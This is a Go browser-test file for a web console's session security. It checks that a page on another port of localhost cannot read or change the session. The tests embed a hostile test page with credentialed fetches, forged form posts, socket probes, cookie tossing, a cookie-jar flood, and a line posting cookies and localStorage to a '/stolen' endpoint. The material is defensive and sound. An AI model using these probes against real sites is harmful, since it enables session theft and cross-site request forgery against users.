package console

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/codemode-project/codemode/internal/browsertest"
)

// A neighbour is a server of somebody else on another port of this host. It writes down all that browsers send to it.
type neighbour struct {
	port string
	mu   sync.Mutex
	got  []string
	head http.Header // of its answers
	page string
}

func newNeighbour(t *testing.T) *neighbour {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	n := &neighbour{head: http.Header{}}
	_, n.port, _ = net.SplitHostPort(listener.Addr().String())
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		n.mu.Lock()
		defer n.mu.Unlock()
		n.got = append(n.got, fmt.Sprintf("%s %s%s %v %s", r.Method, r.Host, r.RequestURI, r.Header, body))
		for name, values := range n.head {
			w.Header()[name] = values
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, n.page)
	}))
	server.Listener.Close()
	server.Listener = listener
	server.Config.MaxHeaderBytes = 4 << 20
	server.Start()
	t.Cleanup(server.Close)
	return n
}

func (n *neighbour) serves(page string, cookies ...string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.page, n.head = page, http.Header{"Set-Cookie": cookies}
}

// holds reports whether a browser has sent something to it.
func (n *neighbour) holds(secret string) string {
	n.mu.Lock()
	defer n.mu.Unlock()
	for _, got := range n.got {
		if strings.Contains(got, secret) {
			return got
		}
	}
	return ""
}

func (n *neighbour) requests() int {
	n.mu.Lock()
	defer n.mu.Unlock()
	return len(n.got)
}

// secrets are the halves of the session that is open in a browser, and its token.
func (b *browser) secrets() (path, cookie, csrf string) {
	b.T.Helper()
	at := b.Text(`location.href`)
	all, err := chromedp.Call(b.Ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{at}})
	if err != nil {
		b.T.Fatal(err)
	}
	for _, x := range all.Cookies {
		if strings.Contains(x.Path, sessionPrefix) && len(x.Path) > len(sessionPrefix)+20 {
			cookie = x.Value
		}
	}
	if csrf, err = chromedp.Run(b.Ctx,
		chromedp.Evaluate[string](`document.querySelector("input[name=csrf]").value`)); err != nil {
		b.T.Fatal(err)
	}
	_, rest, _ := strings.Cut(at, sessionPrefix)
	path, _, _ = strings.Cut(rest, "/")
	return path, cookie, csrf
}

// attacks is a page of another port that does to the page all that a browser lets it do without being told its path.
const attacks = `<!doctype html><title>neighbour</title><body><script>
const page = %q, tried = [], read = [];
const attempt = (what, does) => tried.push(Promise.resolve().then(does).then((got) => { if (got) read.push(what + ": " + got); }, () => {}));
const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 1500))]);
const form = "do=save&path=codemode.json&digest=3&text=%%7B%%22a%%22%%3A1%%7D&profile=p&tool=x&role=r&life=1+hour&decision=allow+once&q=x";
for (const path of ["/", "/api/session", "/api/pending", "/rules", "/s/", "/static/console.js"]) {
  attempt("cors " + path, () => fetch(page + path, { credentials: "include" }).then((a) => a.text()));
  attempt("no-cors " + path, () => fetch(page + path, { credentials: "include", mode: "no-cors" }).then((a) => a.text()));
  attempt("image " + path, () => within(new Promise((done) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => done(); i.src = page + path; })));
  attempt("frame " + path, () => within(new Promise((done) => {
    const f = document.createElement("iframe");
    f.onload = () => { let text; try { text = f.contentDocument && f.contentDocument.body.innerText; } catch { } done(text); };
    f.src = page + path;
    document.body.append(f);
  })));
  attempt("script " + path, () => within(new Promise((done) => { const s = document.createElement("script"); s.onload = () => done("ran"); s.onerror = () => done(); s.src = page + path; document.body.append(s); })));
}
for (const path of ["/answer", "/rules", "/rules/save", "/rules/session", "/logout", "/login", "/api/answer"]) {
  attempt("post " + path, () => fetch(page + path, { method: "POST", credentials: "include", mode: "no-cors", body: form, headers: { "Content-Type": "application/x-www-form-urlencoded" } }).then((a) => a.text()));
  attempt("json " + path, () => fetch(page + path, { method: "POST", credentials: "include", body: "{}", headers: { "Content-Type": "application/json" } }).then((a) => a.text()));
  attempt("beacon " + path, () => { navigator.sendBeacon(page + path, form); });
  attempt("form " + path, () => {
    const f = document.createElement("form");
    const frame = document.createElement("iframe");
    frame.name = "f" + path;
    document.body.append(frame, f);
    for (const pair of form.split("&")) { const i = document.createElement("input"); [i.name, i.value] = pair.split("=").map(decodeURIComponent); f.append(i); }
    f.method = "post"; f.action = page + path; f.target = frame.name;
    f.submit();
  });
}
attempt("socket", () => within(new Promise((done) => { const s = new WebSocket(page.replace("http", "ws") + "/api/events"); s.onopen = () => done("open"); s.onerror = () => done(); })));
attempt("events", () => within(new Promise((done) => { const s = new EventSource(page + "/api/events", { withCredentials: true }); s.addEventListener("pending", (e) => done(e.data)); s.onerror = () => done(); })));
attempt("worker", () => navigator.serviceWorker.register(page + "/static/console.js").then(() => "registered"));
attempt("storage", () => JSON.stringify(localStorage) === "{}" ? "" : JSON.stringify(localStorage));
attempt("cookies", () => document.cookie.includes("codemode") && !document.cookie.includes("tossed") ? document.cookie : "");
attempt("window", () => within(new Promise((done) => {
  const w = open(page + "/", "victim");
  setTimeout(() => { try { done(w && !w.closed ? w.location.href === "about:blank" ? "" : w.location.href : ""); } catch { done(""); } }, 1000);
})));
attempt("channel", () => within(new Promise((done) => { const c = new BroadcastChannel("codemode "); c.onmessage = (e) => done(JSON.stringify(e.data)); c.postMessage({ hello: true }); })));
attempt("home", () => fetch("/stolen", { method: "POST", body: document.referrer + " " + document.cookie + " " + JSON.stringify(localStorage) }).then(() => ""));
Promise.all(tried).then(() => { window.done = read; });
</script>`

// Cookies do not keep ports apart: a browser that has a session open visits another port of the host, whose pages and
// answers do what they can. That port never gets a half of the session, reads nothing, and changes nothing; then the
// page still works.
func TestAnotherPortGetsNoSession(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	n := newNeighbour(t)
	b := newBrowser(t)
	b.Do("log in", browsertest.Visit(w.c.Link(anna)))
	b.Until("the page is live", `document.getElementById("link").textContent.startsWith("Live")`)
	answers := w.ask(aCall())
	b.Until("the question arrives", `document.querySelectorAll("article.ask").length === 1`)
	path, cookie, csrf := b.secrets()
	name := securePrefix + w.c.cookie
	plain := w.c.cookie
	tossed := []string{
		name + "=tossed; Path=/; Secure", name + "=tossed; Path=/s; Secure", name + "=tossed; Path=/s/; Secure; HttpOnly",
		plain + "=tossed; Path=/", plain + "=tossed; Path=/s/",
		"__Host-" + plain + "=tossed; Path=/; Secure", name + "=tossed; Path=/api; Secure", plain + "=tossed; Path=/rules",
	}
	other := b.Another()
	for _, host := range []string{"127.0.0.1", "localhost"} {
		n.serves("<!doctype html><title>neighbour</title>", tossed...)
		for _, at := range []string{"/", "/s", "/s/", "/s/x/", "/login", "/rules", "/api/session", "/api/events",
			"/console/s/", "/static/console.css"} {
			other.Do("visit another port", browsertest.Visit("http://"+host+":"+n.port+at))
		}
		n.serves(fmt.Sprintf(attacks, w.origin), tossed...)
		other.Do("visit its page", browsertest.Visit("http://"+host+":"+n.port+"/attack"))
		other.Until("it has tried everything", `window.done !== undefined`)
		read, err := chromedp.Run(other.Ctx,
			chromedp.Evaluate[string](`window.done.filter((x) => !x.startsWith("script /static/")).join("\n")`))
		if err != nil || read != "" {
			t.Errorf("a page of %s at another port reads: %s %v", host, read, err)
		}
	}
	untouched(t, w, answers)
	if w.rules.changes() != 0 || len(w.c.Confirm(anna)) != 0 {
		t.Error("a page of another port changed the rules, or wants to")
	}

	// A link from there leads a person to the page, and takes nothing along. Nor does leaving the page for there.
	n.serves(fmt.Sprintf(`<!doctype html><a id="in" href="%s/rules?profile=p&allow=x__y">in</a>`, w.origin), tossed...)
	other.Do("follow a link from there", browsertest.Visit("http://127.0.0.1:"+n.port+"/link"), chromedp.Click(chromedp.CSS("#in")))
	other.Until("the page is there, in the session",
		`location.pathname.startsWith("/s/") && location.search.startsWith("?profile=p") && document.querySelector(".propose") !== null`)
	n.serves("<!doctype html><title>neighbour</title>")
	other.Do("leave for there", chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
		_, err := chromedp.Run(ctx,
			chromedp.Evaluate[chromedp.Void](`void location.assign("http://127.0.0.1:`+n.port+`/left")`))
		return err
	}))
	other.Until("the other port is there", `location.pathname === "/left"`)
	if n.holds("/left") == "" || n.requests() < 25 {
		t.Fatalf("the other port got %d requests", n.requests())
	}
	for what, secret := range map[string]string{"path": path, "cookie": cookie, "token": csrf} {
		if secret == "" {
			t.Errorf("the session has no %s", what)
		} else if got := n.holds(secret); got != "" {
			t.Errorf("another port got the %s of the session: %s", what, got)
		}
	}

	// The page works all the same, with the cookies of the other port beside its own.
	b.Do("load the page again", browsertest.Visit(w.origin+"/"))
	b.Until("the question is there",
		`location.pathname.startsWith("/s/") && document.querySelectorAll("article.ask").length === 1`)
	b.Settle()
	b.Do("allow it", chromedp.Click(chromedp.CSS(`article.ask button.yes`)))
	if a := answerOf(t, answers)[0]; !a.Allowed || a.By != anna {
		t.Errorf("the answer came as %+v", a)
	}

	// A port that fills the jar for this host may log somebody out; they log in again.
	for i := range 4 { // browsers take so many cookies of one answer, and so many of one host
		var bomb []string
		for j := range 50 {
			bomb = append(bomb, fmt.Sprintf("bomb%d-%d=%s; Path=/; Secure; Max-Age=3600", i, j, strings.Repeat("x", 3000)))
		}
		n.serves("<!doctype html><title>neighbour</title>", bomb...)
		other.Do("visit a port that fills the jar", browsertest.Visit("http://127.0.0.1:"+n.port+"/bomb"))
	}
	n.serves("<!doctype html><title>neighbour</title>")
	b.Do("log in again", browsertest.Visit("about:blank"), browsertest.Visit(w.c.Link(anna)))
	b.Until("the page is there", `location.pathname.startsWith("/s/") && document.querySelector(".empty") !== null`)
	path, cookie, csrf = b.secrets()
	other.Do("visit that port again", browsertest.Visit("http://127.0.0.1:"+n.port+"/again"))
	if path == "" || cookie == "" || csrf == "" || n.holds("/again") == "" || n.holds(path) != "" ||
		n.holds(cookie) != "" || n.holds(csrf) != "" {
		t.Error("another port got a half of the second session, or nothing")
	}
}

// A person whose browser runs no script logs in, answers, and changes the rules with a code; another port gets nothing.
func TestWithoutAScriptInABrowser(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(o *Options) { o.Path = "/console" })
	n := newNeighbour(t)
	b := newBrowser(t)
	b.Scripts(false)
	link := w.c.Link(anna)
	b.Do("come over a link from elsewhere", browsertest.Visit(w.origin+"/console/rules?profile=p&allow=x__y"),
		chromedp.WaitVisible(chromedp.CSS("#secret")))
	b.Do("log in", chromedp.SendKeys(chromedp.CSS("#secret"), link), chromedp.Click(chromedp.CSS("form.login button")))
	b.Until("the page that the link led to is there",
		`/^\/console\/s\/[A-Z2-7]{26}\/rules$/.test(location.pathname) && document.querySelector(".propose") !== null`)
	path, cookie, csrf := b.secrets()
	answers := w.ask(aCall())
	b.Do("what waits", chromedp.Click(chromedp.CSS(`nav a`)), chromedp.WaitVisible(chromedp.CSS("article.ask")))
	b.Do("allow it", chromedp.Click(chromedp.CSS(`article.ask button.yes`)))
	if a := answerOf(t, answers)[0]; !a.Allowed {
		t.Errorf("the answer came as %+v", a)
	}
	b.Until("it says so", `document.getElementById("status").textContent.includes("Allowed")`)
	saves(b, w)
	n.serves("<!doctype html><title>neighbour</title>")
	for _, at := range []string{"/", "/console/s/", "/console/rules"} {
		b.Do("visit another port", browsertest.Visit("http://127.0.0.1:"+n.port+at))
	}
	for _, secret := range []string{path, cookie, csrf} {
		if got := n.holds(secret); got != "" || n.requests() < 3 {
			t.Errorf("another port got %s", got)
		}
	}
	b.Do("back to the page", browsertest.Visit(w.origin+"/console/s/"+path+"/"))
	b.Until("the session goes on", `document.querySelector("form.who") !== null`)
	b.Do("log out", chromedp.Click(chromedp.CSS(`form.who button:not([hidden])`)))
	b.Until("the login is there", `location.pathname === "/console/login"`)
	b.Do("the page that was open", browsertest.Visit(w.origin+"/console/s/"+path+"/"))
	b.Until("the session is over", `document.querySelector("#secret") !== null`)
}

// saves changes a file in the browser: first without a code, then with a wrong one, then with the right one.
func saves(b *browser, w *world) {
	b.T.Helper()
	const text = "{\n  \"servers\": {}\n}\n"
	b.Do("the rules", chromedp.Click(chromedp.CSS(`nav a[href$="/rules"]`)), chromedp.WaitVisible(chromedp.CSS("#text-0")))
	b.Do("change them", chromedp.SetValue(chromedp.CSS("#text-0"), text),
		chromedp.SendKeys(chromedp.CSS("[name=why]"), "asked for"),
		chromedp.Click(chromedp.CSS(`button[formaction$="/rules/save"]`)))
	b.Until("a code is wanted",
		`document.getElementById("proof") !== null && document.querySelector(".detail").textContent.includes('+   "servers": {}')`)
	b.named()
	if w.rules.changes() != 0 {
		b.T.Error("the file is written without a code")
	}
	b.Do("type a wrong code", chromedp.SendKeys(chromedp.CSS("#proof"), "WRONG"),
		chromedp.Click(chromedp.CSS(".proof button.yes")))
	b.Until("it says so", `document.getElementById("proof-problem").textContent.includes("--confirm prints a new one")`)
	if w.rules.changes() != 0 {
		b.T.Error("the file is written with a wrong code")
	}
	b.Do("type the code", chromedp.SendKeys(chromedp.CSS("#proof"), w.code()),
		chromedp.Click(chromedp.CSS(".proof button.yes")))
	b.Until("it is saved", `document.getElementById("status").textContent.includes("Saved")`)
	w.rules.mu.Lock()
	defer w.rules.mu.Unlock()
	if w.rules.text != text {
		b.T.Errorf("the file is %q", w.rules.text)
	}
}

// The page that asks for a code, as people see it.
func TestTheConfirmPageInABrowser(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.rules.text = "{\n  \"evaluation\": {\n    \"profiles\": {\"work\": {\"allowlist\": [\"time__now\"]}}\n  }\n}\n"
	b := newBrowser(t)
	b.Do("log in", browsertest.Visit(w.c.Link(anna)))
	b.Until("the page is there", `document.querySelector(".empty") !== null`)
	changed := strings.Replace(w.rules.text, `["time__now"]`, `["time__now", "filesystem__*"]`, 1)
	b.Do("the rules", chromedp.Click(chromedp.CSS(`nav a[href$="/rules"]`)), chromedp.WaitVisible(chromedp.CSS(".editor")))
	b.rewrites(changed)
	b.Do("save them", chromedp.SendKeys(chromedp.CSS("[name=why]"), "asked for"),
		chromedp.Click(chromedp.CSS(`button[formaction$="/rules/save"]`)))
	b.Until("a code is wanted", `document.getElementById("proof") !== null`)
	b.named()
	for _, width := range []int64{1280, 390} {
		b.Size(width, 844)
		b.Until("nothing is wider than the screen", `document.documentElement.scrollWidth <= innerWidth`)
		for _, dark := range []bool{false, true} {
			b.Dark(dark)
			b.Shot(fmt.Sprintf("confirm-%d-dark-%t", width, dark))
		}
	}
	b.Do("type a wrong code", chromedp.SendKeys(chromedp.CSS("#proof"), "WRONG"),
		chromedp.Click(chromedp.CSS(".proof button.yes")))
	b.Until("it says so", `document.getElementById("proof-problem").textContent !== ""`)
	b.Shot("confirm-wrong")
	b.Size(1100, 900)
	b.Dark(false)
	b.Do("type the code", chromedp.SendKeys(chromedp.CSS("#proof"), w.code()),
		chromedp.Click(chromedp.CSS(".proof button.yes")))
	b.Until("it is saved", `document.getElementById("status").textContent.includes("Saved")`)

	answers := w.ask(aCall())
	b.Do("what waits", chromedp.Click(chromedp.CSS(`nav a`)), chromedp.WaitVisible(chromedp.CSS("article.ask")))
	b.Settle()
	b.Do("show it whole", chromedp.Click(chromedp.CSS(`article.ask .more a`)),
		chromedp.WaitVisible(chromedp.CSS("article.whole")))
	b.Settle()
	b.Do("allow it, and propose a rule", chromedp.Click(chromedp.CSS(`details.always summary`)),
		chromedp.Click(chromedp.CSS(`details.always button`)))
	b.Until("a code is wanted", `document.getElementById("proof") !== null`)
	b.Shot("confirm-proposal")
	untouched(t, w, answers)
	b.Do("type the code", chromedp.SendKeys(chromedp.CSS("#proof"), w.code()),
		chromedp.Click(chromedp.CSS(".proof button.yes")))
	if a := answerOf(t, answers)[0]; !a.Allowed {
		t.Errorf("the answer came as %+v", a)
	}
	b.Until("it says so", `document.getElementById("status").textContent.includes("A rule was proposed")`)
	w.rules.mu.Lock()
	defer w.rules.mu.Unlock()
	if len(w.rules.proposed) != 1 {
		t.Errorf("%d rules are proposed", len(w.rules.proposed))
	}
}
